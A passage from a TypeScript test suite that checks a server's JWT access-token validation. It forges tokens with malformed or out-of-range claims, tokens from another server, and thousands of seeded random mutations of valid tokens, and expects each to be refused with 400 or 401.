  const times = [...odd, -now, now + 0.5, String(now + 60), [now + 60], Number.MAX_SAFE_INTEGER, 2 ** 53, 1e300]
  // Whole numbers in the past are valid times: such a token has expired, or its lifetime is too long.
  const wanted = (name: string, value: unknown) =>
    name === 'exp' && Number.isSafeInteger(value) && (value as number) <= now ? expired : invalid
  await refusesAll(t, [
    ...['iss', 'aud', 'sub'].flatMap((name) =>
      odd
        .filter((value) => !(name === 'sub' && typeof value === 'string' && value !== ''))
        .map((value) => [`${name} ${JSON.stringify(value)}`, forge(ed, { claims: { [name]: value } })] as const)
    ),
    ...['exp', 'iat'].flatMap((name) =>
      times.map(
        (value) =>
          [`${name} ${JSON.stringify(value)}`, forge(ed, { claims: { [name]: value } }), wanted(name, value)] as const
      )
    ),
    ...['jti', 'sid'].flatMap((name) =>
      odd
        .filter((value) => typeof value !== 'string' && value !== undefined)
        .map((value) => [`${name} ${JSON.stringify(value)}`, forge(ed, { claims: { [name]: value } })] as const)
    ),
    ...['1e400', '-1e400', '1e309', `${now}.5`, '9007199254740993', `${'9'.repeat(400)}`].flatMap((literal) =>
      ['exp', 'iat'].map(
        (name) =>
          [
            `${name} ${literal.slice(0, 20)}`,
            forge(ed, { claims: JSON.stringify({ ...goodClaims, [name]: 'x' }).replace('"x"', literal) })
          ] as const
      )
    ),
    ['expired a second ago', forge(ed, { claims: { exp: now - 1 } }), expired],
    ['not valid yet', forge(ed, { claims: { nbf: now + 6 } })],
    ['issued tomorrow', forge(ed, { claims: { iat: now + 86_400, exp: now + 87_000 } })],
    ['for a year', forge(ed, { claims: { exp: now + 365 * 86_400 } })],
    ['no claims at all', forge(ed, { claims: '{}' })],
    ['an ID token', forge(ed, { header: { typ: 'JWT' }, claims: { aud: 'client', nonce: 'n', at_hash: 'h' } })]
  ])
  const other = await createApp({ plugin: { secret: 'the secret of another server, of 32 bytes' } })
  const here = await createApp()
  const theirs = await other.app.accessTokens.sign({ sub: 'alice' })
  const renamed = forge({ ...signerWith('the secret of another server, of 32 bytes'), kid: signerWith(secret).kid })
  for (const token of [theirs, renamed, honest]) {
    const response = await here.app.inject({ url: '/me', headers: { authorization: `Bearer ${token}` } })
    t.strictSame(
      [response.statusCode, response.json().code, response.headers['www-authenticate']],
      [401, 'AUTH_INVALID_TOKEN', challenges.invalid],
      'a token of another server is refused'
    )
  }
})

/** A random number generator with a fixed seed (mulberry32), so that every run has the same mutations. */
function createRandom(seed: number) {
  return function below(limit: number): number {
    seed = (seed + 0x6d2b79f5) | 0
    let mixed = Math.imul(seed ^ (seed >>> 15), seed | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) % limit
  }
}

t.test('no mutation of a good token is accepted', async (t) => {
  const below = createRandom(20_260_101)
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.'
  const letter = () => alphabet[below(alphabet.length)]!
  // The characters that HTTP allows in a header value.
  const byte = () => String.fromCharCode(below(2) === 0 ? 0x21 + below(0x5e) : 0x80 + below(0x80))
  const mutations: ((token: string, at: number) => string)[] = [
    (token, at) => token.slice(0, at) + letter() + token.slice(at + 1),
    (token, at) => token.slice(0, at) + byte() + token.slice(at + 1),
    (token, at) => token.slice(0, at) + letter() + token.slice(at),
    (token, at) => token.slice(0, at) + token.slice(at + 1 + below(4)),
    (token, at) => token.slice(0, at),
    (token, at) => token.slice(at),
    (token, at) => token.slice(0, at) + (token[at + 1] ?? '') + token[at] + token.slice(at + 2),
    (token, at) => token.slice(0, at) + String.fromCharCode(token.charCodeAt(at) ^ 1) + token.slice(at + 1),
    (token, at) => token.slice(0, at) + token.slice(at, at + 40) + token.slice(at),
    (token) =>
      token
        .split('.')
        .sort(() => below(2) - 0.5)
        .join('.')
  ]
  const honestOnes = [
    honest,
    ...[signers.hs, signers.es, signers.ed].map((signer) => forge(signer, { claims: { sid: 'session', jti: 'x' } }))
  ]
  const mutants = Array.from({ length: 4000 }, (_, index) => {
    const token = honestOnes[index % honestOnes.length]!
    return mutations[below(mutations.length)]!(token, below(token.length)).trim()
  }).filter((mutant) => !honestOnes.includes(mutant))
  t.ok(mutants.length > 3500, `${mutants.length} mutants`)

  const responses = await exchange(
    server,
    mutants.map((mutant) => get(cookie, `Authorization: Bearer ${mutant}`))
  )
  t.equal(responses.length, mutants.length)
  const known = [invalid, malformed].map((outcome) => JSON.stringify(outcome))
  t.strictSame(
    mutants.filter((_, index) => !known.includes(JSON.stringify(responses[index]))),
    [],
    'each is refused, with 400 or 401, and its challenge'
  )
  t.ok(responses.some(({ status }) => status === 400) && responses.some(({ status }) => status === 401))
  t.strictSame(server.warnings(), [])
  t.strictSame(decode(honest, 1).sub, 'alice')
  t.strictSame(
    await exchange(
      server,
      honestOnes.map((token) => get(`Authorization: Bearer ${token}`))
    ),
    honestOnes.map(() => passed),
    'and the good ones are good still'
  )
})
